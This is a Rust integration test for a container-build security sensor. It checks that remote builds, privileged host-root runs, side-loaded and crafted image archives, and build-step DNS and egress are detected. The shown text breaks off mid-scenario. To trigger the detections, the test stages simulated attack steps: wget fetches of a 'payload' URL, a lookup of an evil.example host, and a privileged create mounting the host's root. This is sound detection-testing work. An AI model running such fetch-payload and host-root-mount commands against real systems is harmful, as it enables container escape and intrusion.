//! Detections end to end: the real buildwatch binary watching a real dockerd, registry, podman
//! and a remote client in a network namespace, asserting what each detection says.
use std::{
    ffi::OsStr,
    path::{Path, PathBuf},
    process::{Command, ExitCode},
    time::Duration,
};

use buildwatch_integration_tests::{
    command::{run, run_command},
    environment::{Environment, MainEngine, BASE_IMAGE, REGISTRY},
    runner::{dump_events, prerequisites, run_all, Scenario},
    scaled,
    sensor::{event::*, Sensor},
    TempConfig,
};
use serde_json::Value;
use std::collections::BTreeSet;

#[path = "detection/operator_stack.rs"]
mod operator_stack;
use operator_stack::{
    container_image_detects_like_the_host_sensor, prometheus_scrapes_the_detection_counter,
    syslog_reaches_rsyslog_across_its_restart,
};

const TIMEOUT: Duration = Duration::from_secs(60);

struct World {
    sensor: Sensor,
    /// The main sensor's `/metrics` port.
    metrics_port: u16,
    /// Kept for the restart scenario, which runs sensors of its own.
    binary: PathBuf,
    env: Environment,
}

fn main() -> ExitCode {
    let binary = match prerequisites(
        "detection",
        &[
            ("podman", "podman"),
            ("curl", "curl"),
            ("prometheus", "prometheus"),
            ("rsyslogd", "rsyslog"),
        ],
    ) {
        Ok(binary) => binary,
        Err(code) => return code,
    };
    let env = Environment::start();
    let metrics_port = free_port();
    let config = sensor_config_with(
        &env,
        &env.dir.join("sensor-state"),
        &format!("[metrics]\nlisten = \"127.0.0.1:{metrics_port}\"\n"),
    );
    let recording = recordings_dir().join("detection-run.jsonl");
    let world = World {
        sensor: Sensor::start_with(
            &binary,
            &config,
            &[OsStr::new("--record"), recording.as_os_str()],
            &[],
        ),
        metrics_port,
        binary,
        env,
    };
    let scenarios = [
        Scenario {
            name: "remote_tcp_build_is_critical",
            run: remote_tcp_build_is_critical,
        },
        Scenario {
            name: "pull_then_build_is_not_flagged",
            run: pull_then_build_is_not_flagged,
        },
        Scenario {
            name: "local_untagged_build_is_medium",
            run: local_untagged_build_is_medium,
        },
        Scenario {
            name: "buildkit_build_is_detected",
            run: buildkit_build_is_detected,
        },
        Scenario {
            name: "podman_build_is_detected",
            run: podman_build_is_detected,
        },
        Scenario {
            name: "curl_raw_build_is_detected",
            run: curl_raw_build_is_detected,
        },
        Scenario {
            name: "privileged_run_of_built_image",
            run: privileged_run_of_built_image,
        },
        Scenario {
            name: "a_pulled_name_built_over_then_run_is_caught",
            run: a_pulled_name_built_over_then_run_is_caught,
        },
        Scenario {
            name: "run_by_id_of_an_untagged_build",
            run: run_by_id_of_an_untagged_build,
        },
        Scenario {
            name: "concurrent_builds_keep_their_own_steps",
            run: concurrent_builds_keep_their_own_steps,
        },
        Scenario {
            name: "build_step_dns_names_the_host",
            run: build_step_dns_names_the_host,
        },
        Scenario {
            name: "docker_load_is_side_loading",
            run: docker_load_is_side_loading,
        },
        Scenario {
            name: "crafted_archive_loaded_then_run",
            run: crafted_archive_loaded_then_run,
        },
        Scenario {
            name: "ledger_survives_a_restart",
            run: ledger_survives_a_restart,
        },
        Scenario {
            name: "build_from_a_container_with_the_socket_mounted",
            run: build_from_a_container_with_the_socket_mounted,
        },
        Scenario {
            name: "small_recording_of_a_remote_attack",
            run: small_recording_of_a_remote_attack,
        },
        Scenario {
            name: "small_recording_of_local_builds",
            run: small_recording_of_local_builds,
        },
        Scenario {
            name: "prometheus_scrapes_the_detection_counter",
            run: prometheus_scrapes_the_detection_counter,
        },
        Scenario {
            name: "syslog_reaches_rsyslog_across_its_restart",
            run: syslog_reaches_rsyslog_across_its_restart,
        },
        Scenario {
            name: "container_image_detects_like_the_host_sensor",
            run: container_image_detects_like_the_host_sensor,
        },
        Scenario {
            name: "detection_ids_are_unique_across_the_suite",
            run: detection_ids_are_unique_across_the_suite,
        },
        // Last: stops the main sensor.
        Scenario {
            name: "replay_equals_live",
            run: replay_equals_live,
        },
    ];
    // Podman builds without any dockerd: its scenario says nothing new on another engine. (On
    // the containerd store it also failed: podman reached the registry before the sensor had
    // trusted it, the event loop being busy asking that daemon about the previous build's images;
    // see the closing note of issue 9.)
    let engine_specific: Vec<Scenario<'_, World>> = scenarios
        .into_iter()
        .filter(|s| matches!(world.env.engine, MainEngine::Debian) || s.name != "podman_build_is_detected")
        .collect();
    let passed = run_all(&world, &engine_specific);
    dump_events(
        &world.sensor,
        &PathBuf::from(env!("CARGO_TARGET_TMPDIR")).join("detection-events.jsonl"),
    );
    drop(world);
    if passed {
        ExitCode::SUCCESS
    } else {
        ExitCode::FAILURE
    }
}

/// The sensor's config: the test daemon's socket and port (and the usual socket path, which
/// containers with the socket mounted connect to), `extra` appended.
fn sensor_config_with(env: &Environment, state_dir: &std::path::Path, extra: &str) -> PathBuf {
    let path = env.dir.join(format!(
        "buildwatch-{}.toml",
        state_dir.file_name().unwrap_or_default().to_string_lossy()
    ));
    std::fs::write(
        &path,
        format!(
            "[watch]\nunix_sockets = [\"{}\", \"/var/run/docker.sock\"]\ntcp_ports = [2375]\ndaemons = [\"dockerd\", \"containerd\", \"podman\"]\ndaemon_binaries = [\"{}\", \"{}\", \"/usr/bin/podman\"]\n[detect]\nstate_dir = \"{}\"\ndocker_data_root = \"{}\"\n{extra}",
            env.socket.display(),
            env.engine.dockerd().display(),
            env.engine.containerd().display(),
            state_dir.display(),
            env.dir.join("data").display()
        ),
    )
    .expect("writing the sensor config");
    path
}

fn sensor_config(env: &Environment, state_dir: &std::path::Path) -> PathBuf {
    sensor_config_with(env, state_dir, "")
}

/// Asserts the detection names real evidence lines: every id is a line the sensor wrote.
fn assert_evidence(sensor: &Sensor, detection: &Value) {
    let ids = strings(&detection["detection"]["evidence"]);
    assert!(!ids.is_empty(), "no evidence: {detection}");
    for id in ids {
        let found = sensor.all(0, |e| e["id"] == id.as_str());
        assert_eq!(found.len(), 1, "evidence {id} is not a line of the sensor");
        assert!(
            matches!(kind(&found[0]), "socket.data" | "process.exec" | "socket.connect"),
            "evidence {id} is a {}",
            kind(&found[0])
        );
    }
}

fn remote_tcp_build_is_critical(world: &World) {
    let env = &world.env;
    let nonce = &env.nonce;
    // The daemon must fetch the base image itself while building.
    run_command(env.docker().args(["image", "rm", "--force", BASE_IMAGE]));
    let command =
        format!("echo remote-{nonce} > /marker && (wget -q -O /dev/null http://127.0.0.1:9/payload || true)");
    let context = env.context("det-remote", &format!("FROM {BASE_IMAGE}\nRUN {command}\n"));
    let tag = format!("bwdet/remote:{nonce}");
    let full_tag = format!("docker.io/bwdet/remote:{nonce}");
    let mark = world.sensor.mark();
    run_command(env.remote_docker().args(["build", "-t", &tag]).arg(&context));

    let found = world.sensor.detection(
        mark,
        "build_without_pull",
        "build_without_pull for the remote build",
        |e| has_tag(&e["build"], &full_tag),
    );
    let d = &found["detection"];
    assert_eq!(d["severity"], "critical", "{found}");
    assert_eq!(d["attack"]["technique"], "T1612");
    assert_eq!(d["attack"]["tactic"], "TA0005");
    assert!(
        d["summary"].as_str().unwrap_or_default().contains(&env.remote_ip),
        "{d}"
    );
    let build = &found["build"];
    assert_eq!(build["builder"], "classic");
    assert_eq!(build["transport"], "tcp");
    assert!(
        build["peer"]
            .as_str()
            .unwrap_or_default()
            .starts_with(&format!("{}:", env.remote_ip)),
        "peer: {build}"
    );
    assert_eq!(build["endpoint"], format!("{}:2375", env.daemon_ip));
    assert_eq!(
        u64::from(env.dockerd_pid),
        build["daemon"]["pid"].as_u64().unwrap_or_default()
    );
    assert_evidence(&world.sensor, &found);
    // Emitted within a second of the request (not at the end of the build).
    let request = world.sensor.wait_for(mark, TIMEOUT, "the request", |e| {
        kind(e) == "socket.data" && content(e).contains(&format!("t=bwdet%2Fremote%3A{nonce}"))
    });
    let delay = time_ns(&found) - time_ns(&request);
    let allowed = scaled(Duration::from_secs(1)).as_nanos() as i128;
    assert!(delay < allowed, "detection {delay} ns after the request");

    let summary = world
        .sensor
        .build_summary(mark, "the remote build's summary", |b| b["id"] == build["id"]);
    let summary = &summary["build"];
    assert_eq!(summary["state"], "finished");
    assert_eq!(summary["detection_id"], d["id"]);
    let bases = summary["base_images"].as_array().cloned().unwrap_or_default();
    assert!(
        bases
            .iter()
            .any(|b| b["reference"] == BASE_IMAGE && b["fetched"] == true),
        "base image not fetched from the registry: {bases:?}"
    );
    let steps = summary["steps"].as_array().cloned().unwrap_or_default();
    assert!(
        steps
            .iter()
            .any(|s| strings(&s["argv"]) == ["/bin/sh", "-c", command.as_str()]),
        "RUN step missing from {steps:?}"
    );
    assert!(
        steps
            .iter()
            .any(|s| strings(&s["argv"]).first().is_some_and(|a| a == "wget")),
        "wget step missing from {steps:?}"
    );
    let egress = strings(
        &summary["egress"]
            .as_array()
            .cloned()
            .unwrap_or_default()
            .iter()
            .map(|e| e["detail"].clone())
            .collect(),
    );
    assert!(egress.iter().any(|e| e.contains("wget")), "egress: {egress:?}");
    // The step's own connection attempt, seen by the kernel (refused: the build has no network).
    let connections: Vec<&Value> = summary["egress"]
        .as_array()
        .into_iter()
        .flatten()
        .filter(|e| e["kind"] == "step_connection")
        .collect();
    assert!(
        connections
            .iter()
            .any(|e| e["destination"] == "127.0.0.1:9"
                && e["detail"] == "wget connected to 127.0.0.1:9 (refused)"),
        "step connections: {connections:?}"
    );
    let connect = world
        .sensor
        .wait_for(mark, TIMEOUT, "the step's socket.connect", |e| {
            kind(e) == "socket.connect" && role(e) == "build_step"
        });
    assert_eq!(connect["socket"]["result"], -111, "{connect}");
    assert_eq!(connect["process"]["comm"], "wget");
    assert_eq!(summary["severity"], "critical");
}

/// The CI pattern: a repository pulled from the registry, then built under its own name. The
/// repository is this scenario's own (published fresh), so that nothing earlier can excuse the
/// build, and the Dockerfile starts FROM another one, so that no fetch during the build can:
/// only this pull, confirmed by the daemon's registry traffic.
fn pull_then_build_is_not_flagged(world: &World) {
    let env = &world.env;
    let nonce = &env.nonce;
    let repository = format!("{REGISTRY}/bwci-{nonce}");
    let pulled = format!("{repository}:1");
    let tag = format!("{repository}:ci");
    publish_as(env, &pulled);
    let context = env.context("det-ci", &format!("FROM {BASE_IMAGE}\nLABEL ci={nonce}\n"));
    let mark = world.sensor.mark();
    run_command(env.docker().args(["pull", &pulled]));
    world.sensor.confirmed_pull(mark, &pulled);
    run_command(env.docker().args(["build", "-t", &tag]).arg(&context));
    let summary = world.sensor.stays_quiet(
        mark,
        "the CI build's summary",
        |e| kind(e) == "build" && has_tag(&e["build"], &tag),
        "a pulled repository's build must not be flagged",
        |e| kind(e) == "detection" && has_tag(&e["build"], &tag),
    );
    assert!(summary["build"]["detection_id"].is_null(), "flagged: {summary}");
}

fn local_untagged_build_is_medium(world: &World) {
    let env = &world.env;
    let context = env.context(
        "det-untagged",
        &format!("FROM {BASE_IMAGE}\nLABEL untagged={}\n", env.nonce),
    );
    let mark = world.sensor.mark();
    let secret = format!("docker-secret-{}", env.nonce);
    run_command(
        env.docker()
            .args(["build", "--build-arg", &format!("TOKEN={secret}")])
            .arg(&context),
    );
    let found = world.sensor.detection(
        mark,
        "build_without_pull",
        "build_without_pull for the untagged build",
        |e| e["build"]["tags"].as_array().is_some_and(Vec::is_empty) && e["build"]["transport"] == "unix",
    );
    assert_eq!(found["detection"]["severity"], "medium", "{found}");
    let client = &found["build"]["client"];
    assert_eq!(client["comm"], "docker", "{found}");
    assert!(
        client["exe"].as_str().unwrap_or_default().ends_with("/docker"),
        "{client}"
    );
    assert!(strings(&client["argv"]).iter().any(|a| a == "build"), "{client}");
    assert!(
        !client["ancestry"]
            .as_array()
            .cloned()
            .unwrap_or_default()
            .is_empty(),
        "{client}"
    );
    assert_eq!(
        found["build"]["endpoint"],
        format!("unix:{}", env.socket.display())
    );
    assert!(
        strings(&found["detection"]["reasons"])
            .iter()
            .any(|r| r.contains("untagged")),
        "{found}"
    );
    assert_eq!(strings(&found["build"]["build_arg_keys"]), ["TOKEN"]);
    assert_evidence(&world.sensor, &found);
    // Every line about the build is out once its summary is: none may carry the value.
    world
        .sensor
        .build_summary(mark, "the untagged build's summary", |b| {
            b["id"] == found["build"]["id"]
        });
    assert_no_secret(&world.sensor, &secret);
}

fn buildkit_build_is_detected(world: &World) {
    let env = &world.env;
    let nonce = &env.nonce;
    let context = env.context(
        "det-buildkit",
        &format!("FROM {BASE_IMAGE}\nRUN echo bk-{nonce}\n"),
    );
    let tag = format!("bwdet/buildkit:{nonce}");
    let mark = world.sensor.mark();
    run_command(
        env.docker()
            .env("DOCKER_BUILDKIT", "1")
            .args(["build", "--network", "none", "-t", &tag])
            .arg(&context),
    );
    let found = world.sensor.detection(
        mark,
        "build_without_pull",
        "build_without_pull for the BuildKit build",
        |e| has_tag(&e["build"], &format!("docker.io/{tag}")),
    );
    // Debian's 20.10 CLI speaks the legacy BuildKit protocol; 26.1's hands the build to buildx.
    let builder = match env.engine {
        MainEngine::Debian => "buildkit",
        MainEngine::Docker26 { .. } => "buildx",
    };
    assert_eq!(found["build"]["builder"], builder, "{found}");
    assert_eq!(found["detection"]["severity"], "medium");
    // buildx runs as the CLI's plugin process.
    let client = match env.engine {
        MainEngine::Debian => "docker",
        MainEngine::Docker26 { .. } => "docker-buildx",
    };
    assert_eq!(found["build"]["client"]["comm"], client);
}

fn podman_build_is_detected(world: &World) {
    let env = &world.env;
    let nonce = &env.nonce;
    let context = env.context(
        "det-podman",
        &format!("FROM {BASE_IMAGE}\nRUN echo podman-{nonce}\n"),
    );
    let tag = format!("bwdet/podman:{nonce}");
    let root = env.dir.join("podman");
    let mark = world.sensor.mark();
    // In the daemon's namespace, where the registry listens.
    let status = Command::new("nsenter")
        .arg(format!("--net=/run/netns/{}", env.daemon_ns))
        .arg("podman")
        .arg("--root")
        .arg(root.join("root"))
        .arg("--runroot")
        .arg(root.join("run"))
        .args([
            "--cgroup-manager",
            "cgroupfs",
            "build",
            "--tls-verify=false",
            "--network",
            "none",
            "-t",
            &tag,
        ])
        .args(["--build-arg", &format!("TOKEN=podman-secret-{nonce}")])
        .arg(&context)
        .status()
        .expect("running podman");
    assert!(status.success(), "podman build failed: {status}");
    let found = world.sensor.detection(
        mark,
        "build_without_pull",
        "build_without_pull for podman build",
        |e| has_tag(&e["build"], &format!("docker.io/{tag}")),
    );
    assert_eq!(found["build"]["builder"], "podman", "{found}");
    assert_eq!(found["build"]["transport"], "exec");
    assert_eq!(found["detection"]["severity"], "medium");
    assert!(
        strings(&found["build"]["client"]["argv"])
            .iter()
            .any(|a| a == "build"),
        "{found}"
    );
    assert_eq!(strings(&found["build"]["build_arg_keys"]), ["TOKEN"]);
    assert_eq!(
        found["build"]["instructions"]["from"][0], BASE_IMAGE,
        "Dockerfile read from the context: {found}"
    );
    assert_evidence(&world.sensor, &found);
    let summary = world
        .sensor
        .build_summary(mark, "the podman build's summary", |b| {
            b["id"] == found["build"]["id"]
        });
    let summary = &summary["build"];
    assert!(
        summary["base_images"]
            .as_array()
            .into_iter()
            .flatten()
            .any(|b| b["reference"] == BASE_IMAGE && b["fetched"] == true),
        "podman's registry fetch: {summary}"
    );
    let step = format!("echo podman-{nonce}");
    assert!(
        summary["steps"]
            .as_array()
            .into_iter()
            .flatten()
            .any(|s| strings(&s["argv"]).last() == Some(&step)),
        "podman RUN step: {summary}"
    );
    assert_no_secret(&world.sensor, &format!("podman-secret-{nonce}"));
}

/// Build-arg values appear in no line the sensor wrote (argv, captured bytes, build objects).
fn assert_no_secret(sensor: &Sensor, secret: &str) {
    let leaks = sensor.all(0, |e| e.to_string().contains(secret));
    assert!(
        leaks.is_empty(),
        "build-arg value leaked in {} lines: {:?}",
        leaks.len(),
        leaks.first()
    );
}

fn curl_raw_build_is_detected(world: &World) {
    let env = &world.env;
    let nonce = &env.nonce;
    let context = env.context("det-curl", &format!("FROM {BASE_IMAGE}\nRUN echo curl-{nonce}\n"));
    let tarball = env.dir.join("det-curl.tar");
    run(
        "tar",
        &[
            "-C",
            &context.to_string_lossy(),
            "-cf",
            &tarball.to_string_lossy(),
            ".",
        ],
    );
    let mark = world.sensor.mark();
    run(
        "curl",
        &[
            "--silent",
            "--show-error",
            "--fail",
            "--unix-socket",
            &env.socket.to_string_lossy(),
            "-H",
            "Content-Type: application/x-tar",
            "-H",
            "Expect: 100-continue",
            "--data-binary",
            &format!("@{}", tarball.display()),
            &format!("http://docker/build?t=bwdet%2Fcurl%3A{nonce}&t=bwdet%2Fcurl%3Alatest"),
        ],
    );
    let found = world.sensor.detection(
        mark,
        "build_without_pull",
        "build_without_pull for curl's POST /build",
        |e| has_tag(&e["build"], &format!("docker.io/bwdet/curl:{nonce}")),
    );
    let build = &found["build"];
    assert!(
        has_tag(build, "docker.io/bwdet/curl:latest"),
        "repeated t= lost: {build}"
    );
    assert_eq!(build["client"]["comm"], "curl", "{found}");
    assert_eq!(
        build["instructions"]["from"][0], BASE_IMAGE,
        "Dockerfile from the context: {build}"
    );
    let summary = world
        .sensor
        .build_summary(mark, "curl build summary", |b| b["id"] == build["id"]);
    assert_eq!(summary["build"]["state"], "finished");
}

fn privileged_run_of_built_image(world: &World) {
    let env = &world.env;
    let nonce = &env.nonce;
    let context = env.context("det-run", &format!("FROM {BASE_IMAGE}\nLABEL run={nonce}\n"));
    let tag = format!("bwdet/run:{nonce}");
    run_command(env.docker().args(["build", "-t", &tag]).arg(&context));
    let mark = world.sensor.mark();
    create_and_remove(
        env,
        env.docker().args([
            "create",
            "--privileged",
            "--network",
            "none",
            "-v",
            "/:/host",
            &tag,
            "true",
        ]),
    );
    let found = world
        .sensor
        .detection(mark, "run_of_unpulled_image", "run_of_unpulled_image", |e| {
            e["operation"]["image"] == tag.as_str()
        });
    let d = &found["detection"];
    assert_eq!(d["severity"], "critical", "{found}");
    assert_eq!(d["attack"]["technique"], "T1610");
    let reasons = strings(&d["reasons"]);
    assert!(reasons.iter().any(|r| r.contains("privileged")), "{reasons:?}");
    assert!(reasons.iter().any(|r| r.contains("host root")), "{reasons:?}");
    assert!(reasons.iter().any(|r| r.contains("build")), "{reasons:?}");
    assert_eq!(found["operation"]["privileged"], true);
    assert_eq!(found["operation"]["client"]["comm"], "docker");
    assert_evidence(&world.sensor, &found);
}

/// Pushes a copy of the base image to the registry as `name`, so that a pull of `name` is a real
/// registry pull; the local name is removed again.
fn publish_as(env: &Environment, name: &str) {
    run_command(env.docker().args(["pull", BASE_IMAGE]));
    run_command(env.docker().args(["tag", BASE_IMAGE, name]));
    run_command(env.docker().args(["push", name]));
    run_command(env.docker().args(["rmi", name]));
}

/// Name reuse: `docker pull X`, then `docker build -t X` of other content, then a privileged
/// create of X. The build is the documented CI pattern (no build_without_pull), but X now names
/// the build's content: the run is `run_of_unpulled_image`, critical. A fully cached rebuild
/// (the pulled content itself under the same name) stays quiet.
fn a_pulled_name_built_over_then_run_is_caught(world: &World) {
    let env = &world.env;
    let nonce = &env.nonce;
    let app = format!("{REGISTRY}/accapp:{nonce}");
    let cached = format!("{REGISTRY}/accapp-cached:{nonce}");
    publish_as(env, &app);
    publish_as(env, &cached);
    let mark = world.sensor.mark();
    run_command(env.docker().args(["pull", &app]));
    world.sensor.confirmed_pull(mark, &app);
    std::thread::sleep(Duration::from_millis(500));
    let evil = env.context(
        "det-reuse",
        &format!("FROM {BASE_IMAGE}\nRUN echo reused-{nonce} > /evil\n"),
    );
    run_command(env.docker().args(["build", "-t", &app]).arg(&evil));
    let summary = world.sensor.stays_quiet(
        mark,
        "the build over the pulled name",
        |e| kind(e) == "build" && has_tag(&e["build"], &app),
        "the CI pattern stays quiet",
        |e| kind(e) == "detection" && has_tag(&e["build"], &app),
    );
    assert_eq!(
        strings(&summary["build"]["replaced_pulled"]),
        std::slice::from_ref(&app),
        "{summary}"
    );
    let run_mark = world.sensor.mark();
    create_and_remove(
        env,
        env.docker().args([
            "create",
            "--privileged",
            "--network",
            "none",
            "-v",
            "/:/host",
            &app,
            "true",
        ]),
    );
    let found = world.sensor.detection(
        run_mark,
        "run_of_unpulled_image",
        "the run of the reused name",
        |e| e["operation"]["image"] == app.as_str(),
    );
    assert_eq!(found["detection"]["severity"], "critical", "{found}");
    assert!(
        strings(&found["detection"]["reasons"])
            .iter()
            .any(|r| r.contains("built or tagged over")),
        "{found}"
    );
    // The pulled content rebuilt from the cache under its own name: still the registry's.
    let mark = world.sensor.mark();
    run_command(env.docker().args(["pull", &cached]));
    let same = env.context("det-cached", &format!("FROM {cached}\n"));
    run_command(env.docker().args(["build", "-t", &cached]).arg(&same));
    world
        .sensor
        .build_summary(mark, "the cached rebuild", |b| has_tag(b, &cached));
    let run_mark = world.sensor.mark();
    create_and_remove(
        env,
        env.docker()
            .args(["create", "--network", "none", &cached, "true"]),
    );
    world.sensor.stays_quiet(
        run_mark,
        "the create of the cached rebuild",
        |e| {
            kind(e) == "docker.operation"
                && e["operation"]["type"] == "container_create"
                && e["operation"]["image"] == cached.as_str()
        },
        "a cached rebuild of pulled content must not be flagged",
        |e| kind(e) == "detection" && e["operation"]["image"] == cached.as_str(),
    );
}

/// `docker build -q` prints only the new image's id; the attacker runs it by that id, or tags it
/// with an innocent name first.
fn run_by_id_of_an_untagged_build(world: &World) {
    let env = &world.env;
    let nonce = &env.nonce;
    let context = env.context("det-by-id", &format!("FROM {BASE_IMAGE}\nLABEL by_id={nonce}\n"));
    let mark = world.sensor.mark();
    let id = run_command(env.docker().args(["build", "-q"]).arg(&context));
    let id = id.trim().to_string();
    assert!(
        id.starts_with("sha256:") && id.len() == 71,
        "not an image id: {id}"
    );
    let build = world
        .sensor
        .build_summary(mark, "the untagged build's summary", |b| {
            strings(&b["images"]).contains(&id)
        });
    assert!(
        build["build"]["tags"].as_array().is_some_and(Vec::is_empty),
        "{build}"
    );
    assert_eq!(
        strings(&build["build"]["images"]),
        std::slice::from_ref(&id),
        "a FROM + LABEL build writes one image, and only this build's"
    );

    let mark = world.sensor.mark();
    let short = &id["sha256:".len().."sha256:".len() + 12];
    create_and_remove(
        env,
        env.docker().args(["create", "--network", "none", short, "true"]),
    );
    let found = world.sensor.detection(
        mark,
        "run_of_unpulled_image",
        "run_of_unpulled_image for a create by short id",
        |e| e["operation"]["image"] == short,
    );
    assert_eq!(found["detection"]["severity"], "high", "{found}");
    assert!(
        found["detection"]["summary"]
            .as_str()
            .unwrap_or_default()
            .contains(&id),
        "the summary names the full id: {found}"
    );
    assert_evidence(&world.sensor, &found);

    let innocent = format!("bwdet/innocent:{nonce}");
    run_command(env.docker().args(["tag", short, &innocent]));
    let mark = world.sensor.mark();
    create_and_remove(
        env,
        env.docker()
            .args(["create", "--network", "none", &innocent, "true"]),
    );
    world.sensor.detection(
        mark,
        "run_of_unpulled_image",
        "run_of_unpulled_image for the id tagged with an innocent name",
        |e| e["operation"]["image"] == innocent.as_str(),
    );
}

/// A CI host builds several images at once on one daemon: the attacker's build starts first, a
/// benign one opens while the attacker's RUN step is still running, then the step fetches while
/// both are open. The fetch stays with the build that ran it.
fn concurrent_builds_keep_their_own_steps(world: &World) {
    let env = &world.env;
    let nonce = &env.nonce;
    let evil_context = env.context(
        "det-concurrent-evil",
        &format!(
            "FROM {BASE_IMAGE}\nRUN sleep 1 && (wget -q -O /dev/null http://127.0.0.1:9/{nonce} || true)\n"
        ),
    );
    let benign_context = env.context(
        "det-concurrent-benign",
        &format!("FROM {BASE_IMAGE}\nRUN sleep 3 && echo benign-{nonce}\n"),
    );
    let evil_tag = format!("bwdet/concurrent-evil:{nonce}");
    let benign_tag = format!("bwdet/concurrent-benign:{nonce}");
    let mark = world.sensor.mark();
    let mut evil = env
        .docker()
        .args(["build", "-t", &evil_tag])
        .arg(&evil_context)
        .stdout(std::process::Stdio::null())
        .spawn()
        .expect("starting the first build");
    world
        .sensor
        .wait_for(mark, TIMEOUT, "the first build's sleeping step", |e| {
            kind(e) == "process.exec"
                && strings(&e["process"]["argv"])
                    .first()
                    .is_some_and(|a| a == "sleep")
        });
    run_command(
        env.docker()
            .args(["build", "-t", &benign_tag])
            .arg(&benign_context),
    );
    assert!(evil.wait().expect("waiting for the first build").success());

    let evil_build = world.sensor.build_summary(mark, "the attacker's build", |b| {
        has_tag(b, &format!("docker.io/{evil_tag}"))
    });
    let benign_build = world.sensor.build_summary(mark, "the benign build", |b| {
        has_tag(b, &format!("docker.io/{benign_tag}"))
    });
    let argv0s = |build: &Value| -> Vec<String> {
        build["build"]["steps"]
            .as_array()
            .into_iter()
            .flatten()
            .filter_map(|s| s["argv"][0].as_str().map(String::from))
            .collect()
    };
    assert!(argv0s(&evil_build).iter().any(|a| a == "wget"), "{evil_build}");
    assert!(
        evil_build["build"]["egress"]
            .as_array()
            .into_iter()
            .flatten()
            .any(|e| e["kind"] == "step_connection" && e["destination"] == "127.0.0.1:9"),
        "{evil_build}"
    );
    assert!(
        argv0s(&benign_build).iter().any(|a| a == "sleep"),
        "{benign_build}"
    );
    assert!(
        !argv0s(&benign_build).iter().any(|a| a == "wget"),
        "{benign_build}"
    );
    assert!(
        benign_build["build"]["egress"]
            .as_array()
            .is_none_or(Vec::is_empty),
        "{benign_build}"
    );
}

/// A RUN step resolves the host it is about to fetch from. The resolver here is the build
/// container's own loopback (nothing answers; no packet leaves the host): the question is what
/// counts.
fn build_step_dns_names_the_host(world: &World) {
    let env = &world.env;
    let nonce = &env.nonce;
    let host = format!("payload-{nonce}.evil.example");
    let context = env.context(
        "det-dns",
        &format!("FROM {BASE_IMAGE}\nRUN busybox nslookup {host} 127.0.0.1 || true\n"),
    );
    let tag = format!("bwdet/dns:{nonce}");
    let mark = world.sensor.mark();
    run_command(env.docker().args(["build", "-t", &tag]).arg(&context));
    let build = world.sensor.build_summary(mark, "the resolving build", |b| {
        has_tag(b, &format!("docker.io/{tag}"))
    });
    let asked = build["build"]["egress"]
        .as_array()
        .into_iter()
        .flatten()
        .find(|e| e["kind"] == "step_dns")
        .unwrap_or_else(|| panic!("no step_dns egress: {build}"));
    assert!(
        asked["detail"].as_str().unwrap_or_default().contains(&host),
        "{asked}"
    );
    assert_eq!(asked["destination"], "127.0.0.1:53", "{asked}");
    let egress = world.sensor.detection(
        mark,
        "build_egress",
        "build_egress for the resolving build",
        |e| has_tag(&e["build"], &format!("docker.io/{tag}")),
    );
    assert!(
        strings(&egress["detection"]["reasons"])
            .iter()
            .any(|r| r.contains(&host)),
        "{egress}"
    );
}

fn docker_load_is_side_loading(world: &World) {
    let env = &world.env;
    let archive = env.dir.join("det-load.tar");
    run_command(env.docker().args(["pull", BASE_IMAGE]));
    run_command(
        env.docker()
            .args(["save", "-o", &archive.to_string_lossy(), BASE_IMAGE]),
    );
    let mark = world.sensor.mark();
    run_command(env.docker().args(["load", "-i", &archive.to_string_lossy()]));
    let found = world.sensor.detection(
        mark,
        "image_side_loaded",
        "image_side_loaded for docker load",
        |e| e["operation"]["type"] == "load",
    );
    assert_eq!(found["detection"]["severity"], "medium", "{found}");
    assert_eq!(found["operation"]["client"]["comm"], "docker");
    assert_evidence(&world.sensor, &found);
    // The archive held the pulled base image: its content is the registry's, and a run of it
    // by id is not a run of a side-loaded image.
    let id = run_command(
        env.docker()
            .args(["image", "inspect", "-f", "{{.Id}}", BASE_IMAGE]),
    );
    let id = id.trim().to_string();
    let mark = world.sensor.mark();
    create_and_remove(
        env,
        env.docker().args(["create", "--network", "none", &id, "true"]),
    );
    world.sensor.stays_quiet(
        mark,
        "the create by id",
        |e| kind(e) == "docker.operation" && e["operation"]["image"] == id.as_str(),
        "a run of the loaded registry content must not be flagged",
        |e| kind(e) == "detection" && e["operation"]["image"] == id.as_str(),
    );
}

/// A `docker save`-format archive made by hand, as an attacker would: its image claims to be
/// years old, and the 256 KiB layer puts `manifest.json` (the names) far past what the sensor
/// captures of the request. The names and the id come from dockerd's store when the load ends.
fn crafted_archive_loaded_then_run(world: &World) {
    let env = &world.env;
    let nonce = &env.nonce;
    let dir = env.dir.join("crafted-archive");
    let layer_dir = dir.join("layer");
    std::fs::create_dir_all(&layer_dir).expect("creating the layer directory");
    let payload: String = (0..256 * 1024 / 64)
        .map(|i| format!("{i:08} echo crafted {nonce:<40}\n"))
        .collect();
    std::fs::write(layer_dir.join("payload"), payload).expect("writing the payload");
    let tar_path = |name: &str| dir.join(name).to_string_lossy().into_owned();
    run(
        "tar",
        &[
            "-C",
            &layer_dir.to_string_lossy(),
            "-cf",
            &tar_path("layer.tar"),
            "payload",
        ],
    );
    let sha256 = |path: &str| run("sha256sum", &[path])[..64].to_string();
    let diff_id = sha256(&tar_path("layer.tar"));
    std::fs::create_dir_all(dir.join(&diff_id)).expect("creating the layer entry");
    std::fs::rename(dir.join("layer.tar"), dir.join(&diff_id).join("layer.tar")).expect("moving the layer");
    std::fs::write(
        dir.join("config.json"),
        format!(
            r#"{{"architecture":"amd64","os":"linux","created":"2020-01-01T00:00:00Z","config":{{"Cmd":["/bin/sh","/payload"],"Labels":{{"crafted":"{nonce}"}}}},"rootfs":{{"type":"layers","diff_ids":["sha256:{diff_id}"]}},"history":[{{"created":"2020-01-01T00:00:00Z","created_by":"hand"}}]}}"#
        ),
    )
    .expect("writing the config");
    let config_id = sha256(&tar_path("config.json"));
    std::fs::rename(dir.join("config.json"), dir.join(format!("{config_id}.json")))
        .expect("naming the config");
    let name = format!("bwdet/crafted:{nonce}");
    std::fs::write(
        dir.join("manifest.json"),
        format!(
            r#"[{{"Config":"{config_id}.json","RepoTags":["{name}"],"Layers":["{diff_id}/layer.tar"]}}]"#
        ),
    )
    .expect("writing the manifest");
    let archive = env.dir.join("crafted.tar");
    run(
        "tar",
        &[
            "-C",
            &dir.to_string_lossy(),
            "-cf",
            &archive.to_string_lossy(),
            &format!("{diff_id}/layer.tar"),
            &format!("{config_id}.json"),
            "manifest.json",
        ],
    );

    let mark = world.sensor.mark();
    run_command(env.docker().args(["load", "-i", &archive.to_string_lossy()]));
    let loaded = world.sensor.detection(
        mark,
        "image_side_loaded",
